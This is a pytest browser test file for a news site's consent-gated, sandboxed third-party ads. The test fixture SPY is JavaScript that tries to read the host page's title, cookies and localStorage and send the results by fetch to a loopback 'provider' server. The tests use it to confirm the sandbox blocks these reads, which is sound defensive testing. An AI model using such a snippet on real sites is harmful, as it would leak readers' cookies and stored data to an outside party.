"""Others' ads in the browser: nothing before the reader's choice, nothing of ours within reach."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.utils import timezone

from tests.builders import make_article, make_house_ad, set_ads

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LONG = "".join(f"<p>{'Every word of it counts. ' * 12}</p>" for _paragraph in range(16))
# What the provider's script tries from within its frame, and tells its server.
SPY = """
const tell = (what, answer) => fetch(`${BASE}/told/${what}/${encodeURIComponent(answer)}`)
const attempt = (what, ask) => {
  try { tell(what, ask()) } catch (error) { tell(what, error.name) }
}
attempt("page", () => parent.document.title)
attempt("cookie", () => document.cookie)
attempt("storage", () => parent.localStorage.ads)
attempt("origin", () => self.origin)
document.body.append(Object.assign(document.createElement("p"), { textContent: "Bought here" }))
"""


class AdServer(ThreadingHTTPServer):
    """A provider on loopback, which keeps what it was asked for."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Answers)
        self.asked = []
        self.url = f"http://127.0.0.1:{self.server_port}"

    @property
    def snippet(self):
        return f'<script src="{self.url}/ad.js"></script>'

    def told(self, what):
        return [path.rpartition("/")[2] for path in self.asked if path.startswith(f"/told/{what}/")]


class _Answers(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        body = f"const BASE = '{self.server.url}'\n{SPY}".encode() if "ad.js" in self.path else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def provider():
    server = AdServer()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def story(transactional_db, provider):
    article = make_article(body=LONG, status="published", published_at=timezone.now())
    set_ads(ad_snippet=provider.snippet)
    return article.get_absolute_url()


def down(page):
    """Down the page, past every slot, and to rest."""
    for slot in page.locator(".ad").all():
        slot.scroll_into_view_if_needed()
    page.wait_for_load_state("networkidle")


def accept(page):
    page.get_by_role("button", name="Accept").click()
    page.locator(".ad iframe").first.wait_for()


def test_nothing_is_asked_of_others_before_the_choice_nor_after_a_refusal(story, provider, page):
    page.goto(story)
    page.get_by_role("region", name="Ads and privacy").wait_for()
    down(page)
    page.get_by_role("button", name="Refuse").click()
    down(page)
    page.reload()
    down(page)
    assert page.get_by_role("button", name="Refuse").is_hidden()
    assert provider.asked == [] and page.locator("iframe").count() == 0
    assert page.context.cookies() == []


def test_accepted_ads_run_in_a_frame_that_reaches_nothing_of_ours(story, provider, page):
    page.goto(story)
    accept(page)
    page.frame_locator(".ad iframe").first.get_by_text("Bought here").wait_for()
    page.wait_for_load_state("networkidle")
    assert set(provider.told("page")) == {"SecurityError"}
    assert set(provider.told("cookie")) == {"SecurityError"}
    assert set(provider.told("storage")) == {"SecurityError"}
    assert set(provider.told("origin")) == {"null"}
    assert page.context.cookies() == []


def test_a_frame_is_loaded_only_when_its_slot_is_near(story, provider, open_page):
    page = open_page(viewport={"width": 390, "height": 700})
    page.goto(story)
    page.get_by_role("button", name="Accept").click()
    page.wait_for_load_state("networkidle")
    slots = page.locator(".ad").count()
    assert page.locator("iframe").count() < slots
    down(page)
    assert page.locator("iframe").count() == slots


def test_the_choice_is_kept_and_can_be_changed_from_the_footer(story, provider, page):
    page.goto(story)
    accept(page)
    page.reload()
    page.locator(".ad iframe").first.wait_for()
    assert page.get_by_role("button", name="Accept").is_hidden()
    page.get_by_role("link", name="Ads and privacy").press("Enter")
    assert page.evaluate("document.activeElement.textContent") == "Accept"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert page.locator("iframe").count() == 0 and page.locator(".house").count() > 0
    before = len(provider.asked)
    page.reload()
    down(page)
    assert len(provider.asked) == before


def test_both_answers_weigh_the_same(story, page):
    page.goto(story)
    look = """one => { const { color, backgroundColor, fontSize, fontWeight, borderColor } =
        getComputedStyle(one), { width, height } = one.getBoundingClientRect()
        return [color, backgroundColor, fontSize, fontWeight, borderColor, width, height] }"""
    yes, no = (page.get_by_role("button", name=name) for name in ("Accept", "Refuse"))
    assert yes.evaluate(look) == no.evaluate(look)
    assert yes.bounding_box()["height"] >= 24


def test_an_analytics_snippet_goes_through_the_same_door(story, provider, page):
    set_ads("none", ad_snippet="", analytics_snippet=provider.snippet)
    page.goto(story)
    page.get_by_role("button", name="Accept").wait_for()
    assert provider.asked == []
    with page.expect_request(f"{provider.url}/told/origin/null"):
        page.get_by_role("button", name="Accept").click()
    assert page.locator("iframe").is_hidden()


def test_without_a_snippet_nobody_is_asked_and_no_script_comes(story, page):
    set_ads(ad_snippet="")
    page.goto(story)
    assert page.locator("[data-ask], [data-again], script[src*='ads']").count() == 0


SHIFTS = """() => new Promise(done => {
    let sum = 0
    new PerformanceObserver(list => { for (const one of list.getEntries()) sum += one.value })
        .observe({ type: "layout-shift", buffered: true })
    requestAnimationFrame(() => requestAnimationFrame(() => done(sum)))
})"""


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_moves_when_ads_come(story, provider, open_page, width):
    make_house_ad(width=1216, height=500, starts_at=timezone.now())
    page = open_page(viewport={"width": width, "height": 800})
    page.goto(story)
    heights = {box.bounding_box()["height"] for box in page.locator(".ad").all()}
    page.get_by_role("button", name="Accept").click()
    down(page)
    page.locator(".ad iframe").first.wait_for()
    assert {box.bounding_box()["height"] for box in page.locator(".ad").all()} == heights == {274}
    assert page.evaluate(SHIFTS) <= 0.002
    page.complaints.clear()  # the house ad's file is not there


def test_on_paper_there_is_no_trace_of_a_slot(story, page):
    page.goto(story)
    page.emulate_media(media="print")
    assert not any(box.is_visible() for box in page.locator(".ad, .ask").all())
